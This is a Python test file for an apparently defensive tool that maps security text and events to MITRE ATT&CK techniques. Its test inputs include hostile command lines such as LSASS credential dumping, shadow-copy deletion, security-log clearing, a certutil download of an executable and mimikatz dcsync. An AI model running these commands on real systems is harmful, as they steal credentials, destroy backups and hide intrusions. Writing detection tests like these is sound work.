"""The offline mapper: known texts land on the right techniques, with evidence, never revoked ids."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from socpilot.attack.cues import literal_prefixes, parse_cues
from socpilot.attack.knowledge import load, parent_of
from socpilot.attack.mapper import event_text, map_text
from socpilot.model.event import Event


@pytest.mark.parametrize(("text", "expected"), [
    ("procdump -ma lsass.exe lsass.dmp", "T1003.001"),
    ("vssadmin delete shadows /all /quiet", "T1490"),
    ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "T1059.001"),
    ("schtasks /create /tn Updater /tr C:\\Users\\Public\\a.exe /sc onlogon", "T1053.005"),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d evil.exe", "T1547.001"),
    ("wevtutil cl Security", "T1070.001"),
    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 624 C:\\temp\\out.dmp full", "T1003.001"),
    ("certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe", "T1105"),
    ("AWS CloudTrail StopLogging called for the organisation trail", "T1562.008"),
    ("Multiple failed logon attempts (4625) followed by a success from the same source", "T1110"),
    ("Adversary used mimikatz lsadump::dcsync to replicate the krbtgt hash", "T1003.006"),
    ("nltest /domain_trusts /all_trusts", "T1482"),
])
def test_known_texts_map_to_their_technique_in_the_top_three(text: str, expected: str) -> None:
    found = [m.technique_id for m in map_text(text, top=3)]
    assert expected in found, found


def test_known_texts_rank_their_technique_first() -> None:
    assert map_text("procdump -ma lsass.exe", top=1)[0].technique_id == "T1003.001"
    assert map_text("vssadmin delete shadows", top=1)[0].technique_id == "T1490"
    assert map_text("powershell.exe -enc SQBFAFgA", top=1)[0].technique_id == "T1059.001"


def test_every_result_has_evidence_and_a_descending_score() -> None:
    results = map_text("A service was installed with PsExec on a remote host over the ADMIN$ share", top=8)
    assert len(results) == 8
    assert all(m.evidence for m in results)
    assert [m.score for m in results] == sorted((m.score for m in results), reverse=True)
    cue = next(m for m in results if m.technique_id == "T1569.002")
    assert any(e.startswith("cue: 'PsExec'") for e in cue.evidence)


def test_revoked_ids_are_never_returned_even_when_cited() -> None:
    kb = load()
    # T1574.002 is revoked by T1574.001, T1086 by T1059.001: the citation counts for the replacement.
    results = map_text("Detection for T1574.002 DLL Side-Loading and T1086 PowerShell", top=20)
    ids = [m.technique_id for m in results]
    assert all(kb.is_active(t) for t in ids)
    assert "T1574.002" not in ids and "T1086" not in ids
    assert {"T1574.001", "T1059.001"} <= set(ids[:3])
    assert any(e == "id: T1574.002" for m in results for e in m.evidence)


def test_all_active_technique_names_never_yield_inactive_results() -> None:
    kb = load()
    names = " ".join(t.name for t in kb.techniques()[:300])
    assert all(kb.is_active(m.technique_id) for m in map_text(names, top=50))


def test_empty_or_garbage_text_yields_nothing_or_still_valid_results() -> None:
    assert map_text("") == []
    assert map_text("   \n\t") == []
    assert map_text("anything", top=0) == []
    odd = map_text("\x00\ufffd" * 50 + "((((" + "\\" * 30 + "[[" * 40)
    assert all(m.evidence for m in odd)


def test_event_fields_add_to_the_text() -> None:
    event = Event(id="e1", time=datetime(2026, 1, 1, tzinfo=UTC), source="windows", event_code="1",
                  process_name="vssadmin.exe", process_cmd="vssadmin.exe delete shadows /all /quiet",
                  fields={"Image": "C:\\Windows\\System32\\vssadmin.exe"}, raw="{}")
    assert "EventID 1" in event_text(event)
    assert "vssadmin.exe delete shadows /all /quiet" in event_text(event)
    assert map_text("process creation", event=event, top=1)[0].technique_id == "T1490"
    assert map_text("", event={"cloud_action": "DeleteTrail", "source": "cloudtrail"}, top=3)[0].technique_id \
        == "T1562.008"


def test_cue_prefixes_are_a_sound_prefilter() -> None:
    assert literal_prefixes(r"\bprocdump(?:64)?") == frozenset({"procdump"})
    assert literal_prefixes(r"(?:ab|cd)x|\bEF") == frozenset({"ab", "cd", "ef"})
    assert literal_prefixes(r"a?bc") is None  # an optional start has no required literal
    assert literal_prefixes(r"[a-z]+foo") is None
    (cue,) = parse_cues([{"pattern": r"\bTaskKill(?:\.exe)?\b", "techniques": {"T1489": 1}, "why": "x"}])
    text = "cmd /c TASKKILL.EXE /f /im sql.exe"
    assert cue.search(text, text.lower()).group(0) == "TASKKILL.EXE"
    with pytest.raises(ValueError):
        parse_cues([{"pattern": "x", "techniques": {"not-an-id": 1}}])


def test_real_rule_text_maps_first_to_one_of_its_labelled_parents(data) -> None:
    import orjson

    line = (data / "attack-text" / "splunk-detections.jsonl").read_bytes().splitlines()[0]
    row = orjson.loads(line)
    text = (row["name"] + " " + row["description"] + " " + (row.get("query") or ""))[:1000]
    results = map_text(text, top=5)
    assert parent_of(results[0].technique_id) in {parent_of(t) for t in row["techniques_v18"]}


def test_a_huge_pasted_text_is_cut_and_still_mapped() -> None:
    text = "vssadmin delete shadows /all /quiet\n" + "x" * 2_000_000
    assert map_text(text, top=1)[0].technique_id == "T1490"


def test_an_untagged_sensor_alert_maps_from_its_title() -> None:
    from socpilot.model.alert import Alert

    alert = Alert(id="al-1", rule_id="suricata:2009358", rule_source="sensor",
                  rule_title="ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
                  first_time=datetime(2026, 1, 1, tzinfo=UTC), last_time=datetime(2026, 1, 1, tzinfo=UTC),
                  event_ids=["e1"])
    results = map_text("", event=alert, top=3)
    assert results[0].technique_id == "T1046"
    assert any("nmap" in e.lower() for e in results[0].evidence)
